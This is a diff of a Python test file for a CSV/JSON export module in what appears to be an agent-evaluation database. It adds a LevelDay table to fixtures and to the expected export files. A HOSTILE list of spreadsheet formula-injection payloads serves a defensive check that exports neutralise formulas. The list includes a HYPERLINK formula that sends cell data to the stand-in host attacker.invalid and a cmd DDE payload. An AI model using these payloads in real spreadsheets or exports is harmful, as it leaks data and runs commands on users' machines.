@@ -13,14 +13,26 @@ import pytest
 
 from core import db
 from core.export import export, latest_fit_id, neutralise_formulas, to_csv
-from core.schema import AbilityDay, Agent, Attempt, AttemptStatus, Fit, Run, Suite, Task, TaskDifficulty, Verdict
+from core.schema import (
+    AbilityDay,
+    Agent,
+    Attempt,
+    AttemptStatus,
+    Fit,
+    LevelDay,
+    Run,
+    Suite,
+    Task,
+    TaskDifficulty,
+    Verdict,
+)
 
 DAY = dt.date(2026, 3, 1)
 HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
            "\tindented", "\rcarriage"]
 
 
-def _fit(s, agent_id: int, task_id: int, last_day: dt.date, complete: bool = True) -> Fit:
+def _fit(s, agent_id: int, task_id: int, last_day: dt.date, complete: bool = True, stream: str = "all") -> Fit:
     """A fit row (and, when complete, its summaries) written directly: no sampling needed to test readers."""
     fit = Fit(first_day=last_day - dt.timedelta(days=1), last_day=last_day, agents=[agent_id], attempts_used=2,
               sampler="nutpie", chains=2, draws=10, seed=0, duration_s=1.0, rhat_max=1.0, ess_bulk_min=400,
@@ -30,6 +42,8 @@ def _fit(s, agent_id: int, task_id: int, last_day: dt.date, complete: bool = Tru
     if complete:
         s.add(AbilityDay(fit_id=fit.id, agent_id=agent_id, day=last_day, attempts=1, passed=0, q05=0.1, q25=0.2,
                          median=0.3, q75=0.4, q95=0.5, theta_mean=-1.25, theta_sd=0.5))
+        s.add(LevelDay(fit_id=fit.id, agent_id=agent_id, stream=stream, day=last_day, attempts=1, passed=0, q05=0.1,
+                       q25=0.2, median=0.3, q75=0.4, q95=0.5, theta_mean=-1.25, theta_sd=0.5, change=0.0, current=1.0))
         s.add(TaskDifficulty(fit_id=fit.id, task_id=task_id, mean=-0.75, sd=0.5, q05=-1.5, median=-0.75, q95=0.1,
                              attempts=2, passed=1))
         s.add(Verdict(fit_id=fit.id, agent_id=agent_id, day=last_day, method="bayes", window="today",
@@ -54,7 +68,7 @@ def hostile_database(url: str) -> dict[str, int]:
         s.add(Attempt(run_id=run.id, task_id=task.id, status=AttemptStatus.failed, final_message=HOSTILE[0],
                       model="=1+1", cost_usd=-0.5, tokens_in=10))
         s.commit()
-        fit = _fit(s, agent.id, task.id, DAY)
+        fit = _fit(s, agent.id, task.id, DAY, stream=HOSTILE[0])
         return {"agent": agent.id, "task": task.id, "fit": fit.id}
 
 
@@ -113,8 +127,8 @@ def test_csv_export_carries_no_formula(cfg, tmp_path):
     ids = hostile_database(cfg.db_url)
     with db.session(cfg.db_url) as s:
         written = export(s, ids["fit"], "csv", tmp_path / "csv")
-    assert {p.name for p in written} == {"fit.csv", "ability_day.csv", "group_day.csv", "task_difficulty.csv",
-                                         "verdict.csv"}
+    assert {p.name for p in written} == {"fit.csv", "ability_day.csv", "group_day.csv", "level_day.csv",
+                                         "task_difficulty.csv", "verdict.csv"}
     for path in written:
         if path.name != "group_day.csv":  # empty: headers only
             assert_no_formula(path.read_text())
